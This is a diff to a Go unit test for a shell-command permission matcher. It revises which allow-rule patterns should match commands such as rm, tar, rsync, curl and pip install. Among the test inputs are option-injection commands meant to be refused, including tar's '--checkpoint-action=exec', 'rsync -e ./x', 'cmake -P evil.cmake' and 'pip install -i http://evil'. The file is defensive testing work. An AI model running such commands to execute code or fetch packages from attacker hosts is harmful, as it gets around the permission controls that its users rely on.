@@ -95,10 +95,13 @@ func TestRuleMatch(t *testing.T) {
 		{"rm *", "find . -exec rm {} +", false},
 		{"rm *", "f() { rm x; }; f", false},
 		{"rm *", "timeout 5 rm x", true},
-		{"rm *", "rm *.o", false},  // may become options
-		{"rm *", "rm ./*.o", true}, // may not
-		{"rm *", "rm -rf build", true},
-		{"mytool *", "mytool sub --verbose a", true},
+		{"rm *", "rm *.o", false},       // may become options
+		{"rm *", "rm ./*.o", true},      // may not
+		{"rm *", "rm -rf build", false}, // nobody here knows its options
+		{"rm -rf *", "rm -rf build", true},
+		{"mytool *", "mytool sub a", true},
+		{"mytool *", "mytool sub --verbose a", false},
+		{"mytool sub --verbose *", "mytool sub --verbose a", true},
 		{"mytool *", "mytool --exec=x", false},
 		{"mytool *", "mytool -exec x", false},
 		{"mytool *", "mytool --conf x", false},
@@ -110,13 +113,12 @@ func TestRuleMatch(t *testing.T) {
 		{"curl *", "curl -o f http://x", false},
 		{"curl *", "curl -so f http://x", false},
 		{"curl *", "curl --outp f http://x", false},
-		{"tar *", "tar -xzf a.tar", true},
-		{"tar *", "tar -I ./x -xf a.tar", false},
-		{"tar *", "tar xf host:a.tar", false},
-		{"tar *", "tar -cf x . --checkpoint-action=exec=x", false},
-		{"rsync *", "rsync -a a b", true},
-		{"rsync *", "rsync -e ./x a b", false},
-		{"rsync *", "rsync -ae ./x a b", false},
+		{"tar -xzf *", "tar -xzf a.tar", true},
+		{"tar -xzf *", "tar -xzf a.tar -I ./x", false},
+		{"tar -xf *", "tar -xf host:a.tar", false},
+		{"tar -cf *", "tar -cf x . --checkpoint-action=exec=x", false},
+		{"rsync -a *", "rsync -a a b", true},
+		{"rsync -a *", "rsync -a a b -e ./x", false},
 		{"cmake *", "cmake -P evil.cmake", false},
 		{"pip install *", "pip install requests", true},
 		{"pip install *", "pip install -i http://evil requests", false},
